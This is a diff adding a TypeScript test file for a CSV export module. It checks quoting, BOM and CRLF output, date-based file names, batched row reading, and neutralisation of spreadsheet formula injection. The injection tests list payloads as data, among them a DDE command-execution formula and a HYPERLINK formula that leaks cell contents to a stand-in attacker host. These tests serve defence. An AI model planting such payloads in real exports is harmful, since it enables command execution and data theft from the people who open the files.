@@ -1,0 +1,93 @@
+import { Readable } from 'node:stream';
+import * as fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { batchesOf, csvName, csvText, neutralised, plainOf } from './csv.ts';
+import type { Cell } from './csv.ts';
+
+/** The whole text of a table whose rows come in these batches. */
+async function textOf(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
+  const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
+  return (await Readable.from(csvText(table)).toArray()).join('');
+}
+
+test('a table is UTF-8 with a BOM, each line ends with CRLF, texts stand in quotes', async () => {
+  const text = await textOf(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
+  expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
+});
+
+test('a table without rows has its header', async () => {
+  expect(await textOf(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
+});
+
+test('a table is named by its day in UTC', () => {
+  expect(csvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
+});
+
+describe('a text that a spreadsheet would calculate', () => {
+  test.each([
+    '=1+1',
+    '+33 1 42 68 53 00',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\rx',
+    '\nx',
+    ' =1',
+    '"=1',
+    "'=1",
+    "''-1",
+    "'\t",
+    '\u00A0=1',
+    '\u200B+1',
+    '\uFEFF@x',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠x',
+    '﹣1',
+    '−1',
+    '“=1',
+    '=cmd|’ /C calc’!A0',
+    '=HYPERLINK("https://evil.example?"&A1)',
+  ])('%j is neutralised, and comes back as it was', (text) => {
+    expect(neutralised(text)).toBe(`'${text}`);
+    expect(plainOf(neutralised(text))).toBe(text);
+  });
+
+  test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
+    '%j is none and stays as it is',
+    (text) => {
+      expect(neutralised(text)).toBe(text);
+      expect(plainOf(text)).toBe(text);
+    },
+  );
+
+  test('any text at all comes back as it was, and none goes out with a sign in front', () => {
+    const piece = fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ' ', '\t', '\r', '\n', '\u200B', 'a', '1', 'é');
+    const text = fc.oneof(fc.string({ unit: piece, maxLength: 6 }), fc.string({ unit: 'binary' }));
+    fc.assert(
+      fc.property(
+        text,
+        (each) => plainOf(neutralised(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutralised(each)),
+      ),
+      { numRuns: 5000 },
+    );
+  });
+});
+
+test('all rows of a list come in batches, each read behind the last one', async () => {
+  const asked: (number | null)[] = [];
+  const next = async (behind: number | null, most: number): Promise<number[]> => {
+    asked.push(behind);
+    return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
+  };
+  expect(await Readable.from(batchesOf(next, 4)).toArray()).toEqual([
+    [1, 2, 3, 4],
+    [5, 6],
+  ]);
+  expect(await Readable.from(batchesOf(next, 3)).toArray()).toEqual([
+    [1, 2, 3],
+    [4, 5, 6],
+  ]);
+  expect(asked).toEqual([null, 4, null, 3, 6]);
+});
